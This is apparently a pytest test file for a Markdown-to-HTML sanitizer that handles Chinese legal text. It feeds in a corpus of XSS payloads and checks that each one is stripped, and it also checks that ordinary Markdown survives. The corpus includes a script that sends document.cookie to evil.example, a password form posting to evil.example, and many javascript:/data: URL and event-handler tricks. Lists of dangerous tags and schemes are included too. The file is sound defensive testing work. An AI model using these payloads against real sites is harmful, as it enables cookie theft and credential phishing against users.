"""Markdown rendering: an XSS corpus never survives, ordinary Chinese Markdown does."""
from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import markdown
import pytest

from qa.markup import render_markdown

# What the rendered HTML may contain; anything else is a sanitizer failure.
SAFE_TAGS = {
    "p", "br", "hr", "strong", "em", "b", "i", "u", "s", "del", "ins", "sub", "sup", "mark",
    "blockquote", "code", "pre", "ul", "ol", "li", "dl", "dt", "dd",
    "h1", "h2", "h3", "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr", "th", "td",
}
DANGEROUS_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "form",
    "input", "button", "textarea", "select", "meta", "base", "link", "img", "video", "audio", "source",
    "noscript", "template", "details",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "xlink:href", "data", "poster", "srcset"}
SAFE_SCHEMES = {"http", "https", "mailto"}
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")


class Collector(HTMLParser):
    """Every tag, attribute and comment of a fragment, as a browser's tokenizer would see them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.declarations: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        self.declarations.append(decl)

    def handle_pi(self, data):
        self.declarations.append(data)

    def unknown_decl(self, data):
        self.declarations.append(data)


def parse(fragment: str) -> Collector:
    collector = Collector()
    collector.feed(fragment)
    collector.close()
    return collector


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see: entities decoded, whitespace and control characters removed."""
    cleaned = re.sub(r"[\x00-\x20\x7f]+", "", html.unescape(value)).lower()
    match = re.match(r"^([a-z][a-z0-9+.\-]*):", cleaned)
    return match.group(1) if match else None


def assert_safe(output: str) -> None:
    lowered = output.lower()
    assert "<script" not in lowered
    assert "<style" not in lowered
    doc = parse(output)
    assert doc.comments == []
    assert doc.declarations == []
    for tag, attrs in doc.tags:
        assert tag not in DANGEROUS_TAGS, (tag, output)
        assert tag in SAFE_TAGS, (tag, output)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, output)
            assert name != "style", output
            if value is None:
                continue
            unescaped = re.sub(r"[\x00-\x20\x7f]+", "", html.unescape(value)).lower()
            for bad in BAD_SCHEMES:
                assert not unescaped.startswith(bad), (name, value)
            if name in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                assert scheme is None or scheme in SAFE_SCHEMES, (name, value)
        if tag == "a":
            assert attrs.get("rel") == "noopener noreferrer", output


B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

XSS_CORPUS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "前文<script type=\"text/javascript\">document.location='https://evil.example/?c='+document.cookie</script>后文",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # event handlers in raw HTML
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"x\" ONERROR=\"alert(1)\"/>",
    "<body onload=alert(1)>",
    "<a href=\"#\" onclick=\"alert(1)\">点我</a>",
    "<div onmouseover=\"alert(1)\">悬停</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='https://ok.example' onclick='alert(1)'>看似正常</a>",
    "<p/onclick=alert(1)>x</p>",
    # javascript:, data:, vbscript: links and images, with case, entity and whitespace tricks
    "[点击](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#x61;script:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    f"[x](data:text/html;base64,{B64_SCRIPT})",
    f"<a href=\"data:text/html;base64,{B64_SCRIPT}\">x</a>",
    "[x](vbscript:msgbox(1))",
    "<a href=\"VBScript:msgbox(1)\">x</a>",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<IMG SRC=javascript:alert('XSS')>",
    # reference-style links and autolinks
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][evil]\n\n[evil]: data:text/html,<script>alert(1)</script> \"标题\"",
    "![图][img]\n\n[img]: vbscript:msgbox(1)",
    "<javascript:alert(1)>",
    "<http://example.com/\"onmouseover=\"alert(1)>",
    "[x](http://example.com \"title\\\" onmouseover=\\\"alert(1)\")",
    # embedded content
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"x.swf\" type=\"application/x-shockwave-flash\"></object>",
    "<embed src=\"x.swf\">",
    "<svg onload=alert(1)><circle r=10 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    # style attributes and tags
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<style>body{background:red}</style>正文",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    # forms
    "<form action=\"https://evil.example\"><input name=pw type=password><button>提交</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    # meta refresh and base href
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    # HTML comments
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Markdown and HTML nested in each other
    "**<img src=x onerror=alert(1)>**",
    "> <a href=\"javascript:alert(1)\">引用里的链接</a>",
    "<div markdown=\"1\">[x](javascript:alert(1))</div>",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "* 列表 <img src=x onerror=alert(1)>\n* [x](javascript:alert(1))",
    "| 表 | 头 |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<a href=\"https://ok.example\" style=\"position:fixed;top:0\">覆盖</a>",
]


def test_corpus_is_large_enough():
    assert len(XSS_CORPUS) >= 30


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_xss_payload_is_neutralised(payload):
    output = render_markdown(payload)
    assert_safe(output)


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_xss_payload_is_neutralised_inside_surrounding_markdown(payload):
    output = render_markdown(f"# 问题\n\n{payload}\n\n- 第一点\n- 第二点 {payload}\n\n> {payload}")
    assert_safe(output)


def test_code_shows_html_as_text():
    output = render_markdown("示例：`<script>alert(1)</script>`")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in output


CHINESE_MARKDOWN = """# 危险驾驶罪的认定

## 一、法律依据

依照**《中华人民共和国刑法》第一百三十三条之一**，在道路上*醉酒*驾驶机动车的，处拘役，并处罚金。

1. 血液酒精含量达到 80mg/100ml 以上
2. 在道路上驾驶机动车

- 认罪认罚从宽
- 帮助信息网络犯罪活动罪

| 情形 | 处理 |
|---|---|
| 醉驾 | 危险驾驶罪 |
| 饮酒驾驶 | 行政处罚 |

参见[最高人民检察院网站](https://www.spp.gov.cn/)和 <https://www.court.gov.cn/>。

> 以上意见仅供参考

行内代码 `第133条` 与代码块：

```
刑法 第一百三十三条之一
```
"""


def test_ordinary_chinese_markdown_survives():
    output = render_markdown(CHINESE_MARKDOWN)
    doc = parse(output)
    tags = [t for t, _ in doc.tags]

    assert "<h1>危险驾驶罪的认定</h1>" in output
    assert "<h2>一、法律依据</h2>" in output
    assert "<strong>《中华人民共和国刑法》第一百三十三条之一</strong>" in output
    assert "<em>醉酒</em>" in output
    assert tags.count("ol") == 1 and tags.count("ul") == 1 and tags.count("li") == 4
    assert "<li>认罪认罚从宽</li>" in output
    assert {"table", "thead", "tbody", "tr", "th", "td"} <= set(tags)
    assert "<td>危险驾驶罪</td>" in output
    assert "<blockquote>" in output and "以上意见仅供参考" in output
    assert "<code>第133条</code>" in output
    assert "<pre><code>刑法 第一百三十三条之一" in output
    links = [attrs for tag, attrs in doc.tags if tag == "a"]
    assert [a["href"] for a in links] == ["https://www.spp.gov.cn/", "https://www.court.gov.cn/"]
    assert all(a["rel"] == "noopener noreferrer" for a in links)
    assert ">最高人民检察院网站</a>" in output
    assert_safe(output)


def test_links_get_noopener_noreferrer_and_keep_safe_urls():
    output = render_markdown('[法规库](https://flk.npc.gov.cn/ "国家法律法规数据库") 与 <mailto:zhang@example.cn>')
    doc = parse(output)
    links = {attrs["href"]: attrs for tag, attrs in doc.tags if tag == "a"}
    assert links["https://flk.npc.gov.cn/"]["rel"] == "noopener noreferrer"
    assert links["https://flk.npc.gov.cn/"]["title"] == "国家法律法规数据库"
    assert all(a["rel"] == "noopener noreferrer" for a in links.values())


def test_line_breaks_and_plain_text_are_kept_and_escaped():
    output = render_markdown("第一行\n第二行 a < b & c > d")
    assert "第一行<br>" in output
    assert "a &lt; b &amp; c &gt; d" in output


def test_empty_input_renders_empty():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


@pytest.mark.parametrize("payload", [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<svg onload=alert(1)>", "<p style=\"color:red\">x</p>",
    "<form action=/x><input></form>", "<!-- x -->",
])
def test_checker_rejects_unsanitised_markdown(payload):
    """Negative control: Python-Markdown alone lets these through, and the checker notices."""
    with pytest.raises(AssertionError):
        assert_safe(markdown.markdown(payload, extensions=["extra"]))
